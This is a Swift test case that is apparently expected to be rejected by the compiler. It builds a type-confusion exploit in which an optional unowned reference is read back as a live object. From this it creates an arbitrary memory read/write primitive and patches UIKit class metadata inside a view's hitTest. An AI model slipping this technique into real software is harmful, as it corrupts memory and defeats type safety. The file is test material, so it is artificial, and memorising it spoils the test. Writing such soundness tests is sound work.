// Attack: has generic code say "none" of a structure with an optional unowned reference, which other code takes for a value with whatever lay there.
// Exercise: 3
// Expect: notAccepted
// Held by: unowned references are no optionals
import UIKit

final class Head { var count = Int.max, capacity = Int.max }
final class Bits { var bits = 0 }
final class Fake {
    var type = Int(bitPattern: ObjectIdentifier(Bits.self)), references = 3 | 1 << 40
    var list: [Int] = []
}
struct Pair {
    unowned var head: Head?
    var bits: Bits??
}
enum Case<T> { case some(T), none }
func none<T>(_ type: T.Type) -> Case<T> { .none }
@MainActor enum Mem {
    static let head = Head(), fake = Fake()
    static var base: UInt = 0
    static func begin() {
        fill(Int(bitPattern: ObjectIdentifier(fake)) + 16)
        take()
    }
    static func fill(_ n: Int) {
        var a = (n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n, n)
        var b = a
        b.0 = n; a.1 = b.2
    }
    static func take() {
        if case .some(let pair) = none(Pair.self), case .some(.some(let bits)) = pair.bits {
            bits.bits = Int(bitPattern: ObjectIdentifier(head))
            base = UInt(bitPattern: ObjectIdentifier(head)) &+ 32
        }
    }
    static subscript(a: UInt) -> Int {
        get { fake.list[Int((a &- base) >> 3)] }
        set { fake.list[Int((a &- base) >> 3)] = newValue }
    }
}
class BaseView: UIView {
    static let kinds = UInt(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x23320
    static var old = 0
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        if Mem.base == 0 { Mem.begin() }
        BaseView.old = Mem[BaseView.kinds]
        Mem[BaseView.kinds] = 0
        defer { Mem[BaseView.kinds] = BaseView.old }
        return super.hitTest(point, with: event)
    }
    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
        Mem[BaseView.kinds] = BaseView.old
        return super.point(inside: point, with: event)
    }
}
